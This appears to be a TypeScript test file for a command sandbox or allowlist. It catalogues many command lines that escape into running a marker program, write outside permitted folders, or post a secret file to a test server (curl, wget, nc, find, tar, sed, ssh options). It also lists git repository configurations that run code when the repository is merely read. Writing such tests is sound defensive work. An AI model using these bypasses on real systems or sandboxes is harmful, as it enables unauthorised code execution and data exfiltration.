// Command lines that run a program, write a file or send one away on a machine that lets them. They run in the folder `work` of a
// playground: ./p is the marker program, ../out must stay empty, ../secret.txt must stay here, URL is a server of the test.
import { type Playground, inRepo, raw } from './cli-playground.ts'

export const HOSTILE: Record<string, string[]> = {
  'no shell': [
    'echo x > ../out/x', 'echo x >../out/x', 'echo x | tee ../out/x', 'ls; ./p', 'ls && ./p', 'ls || ./p', 'ls & ./p', 'echo $(./p)', 'echo `./p`', 'echo "$(./p)"', 'cat <(./p)', 'echo x\n./p', 'ls\r\n./p', 'echo # x\n./p', './p', '../work/p', 'p', 'work/p', "'./p'", '"$(./p)"', '$(./p)', '`./p`', 'A=1 ./p', 'PATH=. p',
    'id', 'exec ./p', 'eval ./p', '. ./p', 'source p', 'command ./p', 'builtin echo x', '{ ./p', 'if ./p', '! ./p',
  ],
  find: [
    "find . -maxdepth 0 -exec ./p ';'", 'find . -maxdepth 0 -exec ./p \\;', 'find . -maxdepth 0 -exec ./p {} +', "find hello.txt -execdir ../work/p {} ';'", "find . -maxdepth 0 -ok ./p ';'", "find . -maxdepth 0 -okdir ./p ';'", 'find . -name hello.txt -delete', 'find hello.txt -delete', 'find . -maxdepth 0 -fprint ../out/x',
    'find . -maxdepth 0 -fprint0 ../out/x', 'find . -maxdepth 0 -fls ../out/x', 'find . -maxdepth 0 -fprintf ../out/x hi', 'find . -maxdepth 0 -true -exec ./p {} +', 'find . -maxdepth 0 -print -exec ./p {} +', 'find . -name -name -o -exec ./p {} +', "find . -maxdepth 0 '(' -exec ./p {} + ')'", 'find . -maxdepth 0 -depth -exec ./p {} +',
    'find . -maxdepth 0 -not -name x -exec ./p {} +', 'find . -maxdepth 0 -printf x -exec ./p {} +', 'find . -ls -delete', 'find -D exec hello.txt -exec ./p {} +', 'find . -maxdepth 0 , -exec ./p {} +', "find . -maxdepth 0 -a -exec ./p ';'",
  ],
  tar: [
    'tar tf t.tar -I./p', 'tar tf t.tar -I ./p', 'tar -I./p -tf t.tar', 'tar -I ./p -cf ../out/x a', 'tar --use-compress-program=./p -tf t.tar', 'tar --use-comp=./p -tf t.tar', 'tar tIf ./p t.tar', 'tar cIf ./p /dev/null a', 'tar cf ../out/x.tar a', 'tar cf /dev/null a --checkpoint=1 --checkpoint-action=exec=./p', 'tar tf t.tar --checkpoint=1 --checkpoint-action=exec=./p',
    'tar tf t.tar --checkpoint=1 --checkpoint-act=exec=./p', 'tar xf t.tar -C ../out', 'tar xf t.tar --to-command=./p', 'tar xf t.tar --to-c=./p', 'tar tvf t.tar --index-file=../out/x', 'tar tvf t.tar --index=../out/x', 'tar -tf host:t.tar --rsh-command=./p', 'tar -tf host:t.tar --rsh-comm=./p', 'tar -F ./p -tMf t.tar', 'tar --info-script=./p -tMf t.tar',
    'tar -xPf evil.tar', 'tar cf /dev/null a -g ../out/snap', 'tar cf /dev/null a --volno-file=../out/x', 'tar -x --file=t.tar --directory=../out', 'tar tf t.tar --rmt-command=./p', 'tar -tf ./t.tar --to-stdout -x', 'tar --one-top-level=../out/x -xf t.tar', 'tar tf t.tar -f ../out/x -c a',
  ],
  'sort and friends': [
    'sort -o ../out/x a', 'sort -o../out/x a', 'sort -ro../out/x a', 'sort -ro ../out/x a', 'sort --out=../out/x a', 'sort --output ../out/x a', 'sort -zo ../out/x a', 'sort -z -o ../out/x a', 'sort a -o ../out/x', 'sort a --o=../out/x', 'sort -S1k --comp=./p big', 'sort -S 1k --compress-program ./p big', 'sort -S1k --compress-prog=./p big', 'sort -muo ../out/x a', 'sort -T ../out -o ../out/x a',
    'uniq a ../out/x', 'uniq -c a ../out/x', 'uniq -d -u a ../out/x', 'uniq -- a ../out/x', 'uniq a -- ../out/x', 'xxd a ../out/x', 'xxd -r hex ../out/x', 'xxd -e a ../out/x', 'xxd -p a ../out/x', 'xxd -c 4 a ../out/x', 'shuf -o ../out/x a', 'shuf -o../out/x a', 'shuf --outp=../out/x a', 'shuf -eo ../out/x a', 'shuf -e -o ../out/x a', 'shuf -n 1 -ro ../out/x a', 'shuf -zo ../out/x a',
    'split --filter=./p a', 'split --filt=./p a', 'split --filter ./p a', 'split -l1 --f=./p a', 'iconv -o ../out/x a', 'iconv --output=../out/x a', 'tree -o ../out/x', 'sdiff -o ../out/x a big', 'sdiff --diff-program=./p a big', 'sdiff --diff-p=./p a big', 'install --strip-program=./p -s p ../out/x', 'file -C -m magic', 'zip -T -TT ./p ../out/x.zip a', 'zip ../out/x.zip a -TT ./p -T', 'zip --unzip-command ./p -T ../out/x.zip a',
  ],
  sed: [
    "sed '1e ./p' a", 'sed 1e\\ ./p a', "sed 's/.*/.\\/p/e' a", "sed 'w ../out/x' a", "sed 's/a/b/w ../out/x' a", "sed -n '/./w ../out/x' a", 'sed -i s/e/b/ hello.txt', 'sed -n -ibak p hello.txt', 'sed -nibak p hello.txt', 'sed --in-place s/e/b/ hello.txt', 'sed --in-pl s/e/b/ hello.txt', 'sed -f script.sed a', 'sed --file=script.sed a', 'sed -s -i p hello.txt', "sed -e p -e '1e ./p' a",
    'sed --expression=1e./p a', "sed -n '$!N;1e ./p' a", "sed -E 's/(.*)/.\\/p/e;p' a", "sed -z '1e ./p' a", "sed --debug '1e ./p' a", "sed --posix '1e ./p' a", "sed -- '1e ./p' a", 'sed 1W../out/x a', 'sed -i.bak p hello.txt', "sed -n '1!G;h;$p;1w ../out/x' a",
  ],
  interpreters: [
    'sh ./p', 'sh -c ./p', 'sh p', 'bash -lc ./p', 'bash --rcfile p -i', 'dash p', 'sh -xc ./p', 'bash -c ./p', 'bash -O extglob p', 'bash --norc p', "python3 -c \"import os;os.system('./p')\"", 'python3 x.py', 'python3 -Bc "import os;os.system(\'./p\')"', 'python3 -m x', 'python3 -mx', 'python3 -', "perl -e 'system q(./p)'", "perl -ne 'system q(./p)' a", 'perl x.pl', "perl -pe 'system q(./p)' a",
    "awk 'BEGIN{system(\"./p\")}'", 'awk \'BEGIN{print "x" > "../out/x"}\'', 'awk \'BEGIN{"./p" | getline}\'', 'awk -f x.awk', "mawk 'BEGIN{system(\"./p\")}'", "gawk 'BEGIN{system(\"./p\")}'", "node -e \"require('child_process').execSync('./p')\"", 'make', 'make -f Makefile', 'make --eval=x:;./p x', "gdb -batch -nx -ex 'shell ./p'", "vim -es '+!./p' +q!", "vi -es '+!./p' +q!", "ex -s '+!./p' +q!",
    "dc -e '!./p'", 'bc x.bc', 'gcc -wrapper ./p x.c', 'gcc -o ../out/x x.c', 'gcc -B. x.c', 'cc -fplugin=./p x.c', 'ed', 'm4 x', 'npm exec ./p', 'npx ./p', "ruby -e 'system(%q(./p))'", "php -r 'system(\"./p\");'",
  ],
  wrappers: [
    'env ./p', "env -S './p'", 'env - ./p', 'env A=1 ./p', 'xargs -a a ./p', 'xargs ./p', 'timeout 5 ./p', 'nice ./p', 'nice -n 5 ./p', 'nohup ./p', 'stdbuf -o0 ./p', 'setsid ./p', 'setsid -f ./p', 'flock lock ./p', 'flock lock -c ./p', 'script -qc ./p /dev/null', 'script -c ./p ../out/x', 'watch -n1 ./p', 'strace ./p', 'strace -o ../out/x true', 'ionice ./p', 'chrt -o 0 ./p', 'taskset 1 ./p',
    'setarch -R ./p', 'linux64 ./p', 'unshare ./p', 'prlimit ./p', 'setpriv ./p', 'choom -n 0 -- ./p', 'run-parts .', 'busybox sh ./p', 'sudo ./p', 'parallel ./p ::: a', 'time ./p', 'chroot / sh', 'nsenter ./p', 'runuser -u root ./p', 'su -c ./p', 'start-stop-daemon --start --exec p', 'logsave ../out/x ./p', 'expect -c ./p', 'tmux new -d ./p', 'systemd-run ./p',
  ],
  'pagers and remote tools': [
    'less a', 'less +!./p a', 'more a', 'man -P ./p ls', 'man --pager=./p ls', 'rg --pre ./p hello', 'rg --pre=./p hello', 'rg -z hello', 'rg --hostname-bin ./p hello', 'fd -x ./p', 'fd --exec=./p', 'fd hello -X ./p', 'ssh -oProxyCommand=./p h', 'ssh -o ProxyCommand=./p h', 'ssh -F cfg h', "ssh -o 'ProxyCommand ./p' h", 'scp -S ./p a h:b', 'scp -oProxyCommand=./p a h:b', 'sftp -D ./p', 'rsync -e ./p a h:b', 'rsync a ../out/x',
    'wget -O ../out/x URL', 'wget -P ../out URL', 'wget --use-askpass=./p URL', 'wget -e use_askpass=./p URL', 'wget -o ../out/x URL', 'wget --post-file=../secret.txt URL', 'openssl enc -base64 -in a -out ../out/x', 'gpg --batch --output ../out/x --enarmor a', 'ssh-keygen -q -t ed25519 -N x -f ../out/k', 'ssh-keygen -D ./p', 'nc -e ./p h 1', 'socat - EXEC:./p', 'xdg-open p', 'run-mailcap p',
  ],
  curl: [
    'curl -o ../out/x URL', 'curl -so ../out/x URL', 'curl -so../out/x URL', 'curl --output ../out/x URL', 'curl --outp ../out/x URL', 'curl -O --output-dir ../out URLname', 'curl -OURLname', 'curl -K cfg', 'curl -Kcfg', 'curl --config cfg URL', 'curl -D ../out/x URL', 'curl -sD../out/x URL', 'curl -c ../out/x URL', 'curl --trace ../out/x URL', 'curl --trace-ascii ../out/x URL', 'curl --stderr ../out/x URL', 'curl --libcurl ../out/x URL',
    'curl --etag-save ../out/x URL', 'curl --hsts ../out/x URL', "curl -w '%output{../out/x}hi' URL", 'curl -d @../secret.txt URL', 'curl -d@../secret.txt URL', 'curl -sd @../secret.txt URL', 'curl --data @../secret.txt URL', 'curl --data-binary @../secret.txt URL', 'curl --data-urlencode x@../secret.txt URL', 'curl --data-raw x -d @../secret.txt URL', 'curl --json @../secret.txt URL', 'curl -T ../secret.txt URL', 'curl --upload-fi ../secret.txt URL', 'curl -F f=@../secret.txt URL',
    'curl -F "f=<../secret.txt" URL', 'curl -H @../secret.txt URL', 'curl --header @../secret.txt URL', 'curl -b ../secret.txt URL', 'curl -E ../secret.txt URL', 'curl file://SECRET', 'curl -s file://SECRET', 'curl URL file://SECRET', 'curl --url file://SECRET', 'curl --proto =file file://SECRET', 'curl FILE://SECRET', 'curl --next file://SECRET', 'curl --proto-default file SECRET', 'curl SECRET', 'curl -q -o ../out/x URL', 'curl -- -o', 'curl URL', 'curl -s URL', 'curl -L URLredirect', 'curl -sL URLredirect',
    "curl 'URL{a,b}' -o ../out/#1", 'curl --variable x@../secret.txt --expand-data {{x}} URL', 'curl --netrc-file ../secret.txt URL', 'curl -u a:b -n URL', 'curl --create-dirs -o ../out/y/x URL', 'curl -J -O URLname', 'curl -sSfLO URLname', 'curl -Z -o ../out/x URL',
  ],
  git: [
    'git -c core.fsmonitor=./p status', "git -c alias.x='!./p' x", 'git -c diff.external=./p diff', 'git -ccore.fsmonitor=./p status', 'git -c core.pager=./p -p log', 'git -p log', 'git --paginate log', 'git --config-env=core.fsmonitor=EVIL status', 'git --exec-path=. p', 'git p', 'git --exec-path=. status', 'git grep -O./p hello', 'git grep -O ./p hello', 'git grep --open=./p hello', 'git grep --open-files-in-pager=./p hello', 'git diff --output=../out/x', 'git diff --outp=../out/x', 'git diff --output ../out/x',
    'git log -p --output=../out/x', 'git show --output=../out/x', 'git archive -o ../out/x HEAD', 'git archive --output=../out/x HEAD', 'git bundle create ../out/x HEAD', 'git format-patch -o ../out --root', 'git rebase -x ./p --root', 'git rebase --exec ./p --root', 'git submodule foreach ./p', 'git difftool -y -x ./p', 'git difftool --extcmd=./p -y', 'git hook run pre-commit', 'git diff --ext-diff', 'git diff --no-index a ../secret.txt', 'git -C ../repos/fsmonitor status', 'git --git-dir=../repos/fsmonitor/.git status', 'git --work-tree=.. status',
    'git ls-remote ext::./p', "git ls-remote 'ext::./p x'", 'git fetch ext::./p', 'git clone ext::./p ../out/x', 'git clone . ../out/c', 'git clone -u ./p . ../out/c', 'git init ../out/x', 'git worktree add ../out/w', 'git config --file ../out/x a.b c', 'git config core.fsmonitor ./p', 'git config --global core.fsmonitor ./p', 'git config --edit', 'git checkout-index --prefix=../out/ -a', 'git stash', 'git commit -am x', 'git add .', 'git rm -f a', 'git mv a b', 'git reset --hard', 'git checkout .', 'git clean -fdx', 'git gc', 'git tag v9', 'git branch evil', 'git branch -D main', 'git remote add x ext::./p',
    'git update-index --refresh', 'git update-ref refs/heads/x HEAD', 'git hash-object -w a', 'git symbolic-ref HEAD refs/heads/x', 'git reflog expire --all --expire=now', 'git notes add -m x', 'git send-email --sendmail-cmd=./p x', 'git upload-archive .', 'git bisect start HEAD HEAD~1', 'git bisect run ./p', 'git filter-branch --tree-filter ./p', 'git mergetool -t x', 'git instaweb --httpd=./p', 'git daemon --base-path=.', 'git interpret-trailers --in-place a', 'git credential fill', 'git column', 'git var GIT_EDITOR', 'git apply x', 'git maintenance start', 'git fsmonitor--daemon start', 'git multi-pack-index write', 'git status --porc', 'git log --textconv -p', 'git log --ext-diff -p',
  ],
}

/** `folder` is where the lines run, below the repository. */
interface HostileRepo { config?: string; setup?(repo: string, play: Playground): void; lines?: string[]; folder?: string }
export const READS = ['git status', 'git status --porcelain', 'git diff', 'git diff HEAD', 'git log -p', 'git log --oneline', 'git show', 'git show HEAD:a', 'git blame a', 'git ls-files', 'git ls-files -o', 'git ls-files -t', 'git branch', 'git describe --always', 'git x', 'git config --list', 'git rev-parse HEAD', 'git cat-file -p HEAD:a', 'git diff --stat', 'git diff --cached', 'git remote -v']
const attributes = (line: string) => (repo: string) => raw.write(repo, '.gitattributes', `${line}\n`)

/** Repositories whose own files would run ./p. Each gets every reading line, and its own ones. */
export const REPOS: Record<string, HostileRepo> = {
  'fsmonitor': { config: '[core]\n\tfsmonitor = ./p\n' },
  'fsmonitor hook version 1': { config: '[core]\n\tfsmonitor = ./p\n\tfsmonitorHookVersion = 1\n\tuntrackedCache = true\n' },
  'pager': { config: '[core]\n\tpager = ./p\n[pager]\n\tlog = ./p\n\tstatus = ./p\n\tdiff = ./p\n\tbranch = ./p\n\tconfig = ./p\n' },
  'external diff': { config: '[diff]\n\texternal = ./p\n' },
  'diff driver command': { config: '[diff "evil"]\n\tcommand = ./p\n', setup: attributes('* diff=evil') },
  'diff driver textconv': { config: '[diff "evil"]\n\ttextconv = ./p\n', setup: attributes('* diff=evil') },
  'filter clean': { config: '[filter "evil"]\n\tclean = ./p\n', setup: attributes('* filter=evil') },
  'filter clean, attributes in info': { config: '[filter "evil"]\n\tclean = ./p\n', setup: repo => raw.write(repo, '.git/info/attributes', '* filter=evil\n') },
  'filter clean, from a folder inside': { config: '[filter "evil"]\n\tclean = ./p\n', setup: repo => { attributes('* filter=evil')(repo); raw.write(repo, 'inner/x', '') }, folder: 'inner', lines: ['git diff ../a', 'git status ..'] },
  'filter process': { config: '[filter "evil"]\n\tprocess = ./p\n\trequired = true\n', setup: attributes('* filter=evil') },
  'filter in the configuration of the worktree': { config: '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n', setup: repo => { attributes('* filter=evil')(repo); raw.write(repo, '.git/config.worktree', '[filter "evil"]\n\tclean = ./p\n') } },
  'fsmonitor in the configuration of the worktree': { config: '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tworktreeConfig = true\n', setup: repo => raw.write(repo, '.git/config.worktree', '[core]\n\tfsmonitor = ./p\n') },
  'alias': { config: '[alias]\n\tx = !./p\n\tstatus = !./p\n', lines: ['git x', 'git x status'] },
  'alias that is another command': { config: '[alias]\n\tx = grep -O./p hello\n\ty = -c core.fsmonitor=./p status\n', lines: ['git y'] },
  'hooks': { setup: repo => { for (const hook of ['post-index-change', 'pre-commit', 'post-checkout', 'fsmonitor-watchman', 'reference-transaction']) raw.program(repo, `.git/hooks/${hook}`, raw.read(repo, 'p')) } },
  'hooks elsewhere': { config: '[core]\n\thooksPath = hooks\n', setup: repo => { for (const hook of ['post-index-change', 'pre-commit', 'fsmonitor-watchman']) raw.program(repo, `hooks/${hook}`, raw.read(repo, 'p')) } },
  'include': { config: '[include]\n\tpath = ../evil.cfg\n', setup: repo => { attributes('* filter=evil')(repo); raw.write(repo, 'evil.cfg', '[core]\n\tfsmonitor = ./p\n[filter "evil"]\n\tclean = ./p\n') } },
  'include under a condition': { config: '[includeIf "gitdir:**"]\n\tpath = ../evil.cfg\n', setup: repo => { attributes('* filter=evil')(repo); raw.write(repo, 'evil.cfg', '[filter "evil"]\n\tclean = ./p\n') } },
  'signatures': { config: '[log]\n\tshowSignature = true\n[gpg]\n\tprogram = ./p\n[gpg "ssh"]\n\tprogram = ./p\n', setup: repo => inRepo.signed(repo), lines: ["git log --format='%G?'", "git show --format='%GG'"] },
  'promised objects over ext': { config: '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = origin\n[remote "origin"]\n\turl = ext::./p\n\tpromisor = true\n[protocol "ext"]\n\tallow = always\n[protocol]\n\tallow = always\n', setup: repo => inRepo.forget(repo, 'HEAD:a') },
  'promised objects over uploadpack': { config: '[core]\n\trepositoryformatversion = 1\n[extensions]\n\tpartialClone = origin\n[remote "origin"]\n\turl = .\n\tpromisor = true\n\tuploadpack = ./p\n', setup: repo => inRepo.forget(repo, 'HEAD:a') },
  'promised objects over ssh': { config: '[core]\n\trepositoryformatversion = 1\n\tsshCommand = ./p\n[extensions]\n\tpartialClone = origin\n[remote "origin"]\n\turl = ssh://h/x\n\tpromisor = true\n', setup: repo => inRepo.forget(repo, 'HEAD:a') },
  'remote': { config: '[core]\n\tsshCommand = ./p\n\taskPass = ./p\n\tgitProxy = ./p\n\talternateRefsCommand = ./p\n\teditor = ./p\n[credential]\n\thelper = !./p\n[remote "origin"]\n\turl = ext::./p\n\tuploadpack = ./p\n\treceivepack = ./p\n[sequence]\n\teditor = ./p\n', lines: ['git fetch', 'git remote update', 'git remote show origin', 'git pull', 'git push', 'git ls-remote'] },
  'a submodule with fsmonitor': { setup: (repo, play) => inRepo.submodule(repo, play, '[core]\n\tfsmonitor = ./p\n'), lines: ['git status -s', 'git diff --stat', 'git diff --summary'] },
  'a submodule with a filter': { setup: (repo, play) => inRepo.submodule(repo, play, '[filter "evil"]\n\tclean = ./p\n', '* filter=evil'), lines: ['git status -s', 'git diff --stat'] },
  '.git is a file that names another folder': { setup: repo => { raw.append(repo, '.git/config', '[core]\n\tfsmonitor = ./p\n[filter "evil"]\n\tclean = ./p\n'); attributes('* filter=evil')(repo); raw.move(repo, '.git', 'elsewhere'); raw.write(repo, '.git', 'gitdir: elsewhere\n') } },
  'configuration in a common folder': { setup: repo => { raw.write(repo, 'common/config', `${raw.read(repo, '.git/config')}[filter "evil"]\n\tclean = ./p\n`); for (const part of ['objects', 'refs']) raw.move(repo, `.git/${part}`, `common/${part}`); attributes('* filter=evil')(repo); raw.write(repo, '.git/commondir', '../common\n') } },
  'a folder shaped like a bare repository': { setup: repo => { raw.append(repo, '.git/config', '[core]\n\tbare = false\n\tworktree = .\n\tfsmonitor = ./p\n[filter "evil"]\n\tclean = ./p\n'); attributes('* filter=evil')(repo); for (const part of ['HEAD', 'objects', 'refs', 'config', 'index']) raw.move(repo, `.git/${part}`, part); raw.remove(repo, '.git') } },
  'a worktree outside': { config: '[core]\n\tworktree = ../../..\n\tfsmonitor = ./p\n' },
  'mailmap, attributes and excludes elsewhere': { config: '[core]\n\tattributesFile = evil.attributes\n\texcludesFile = x\n[log]\n\tmailmap = true\n[filter "evil"]\n\tclean = ./p\n', setup: repo => raw.write(repo, 'evil.attributes', '* filter=evil\n') },
  'upper case and odd spelling': { config: '[CORE]\n\tFSMonitor = ./p\n[FILTER "evil"]\n\tCLEAN = ./p\n', setup: attributes('* filter=evil') },
  'continued lines and quotes': { config: '[core] fsmonitor = "./\\\np"\n[filter "ev.il"] clean = "./p" ; comment\n', setup: attributes('* filter=ev.il') },
}
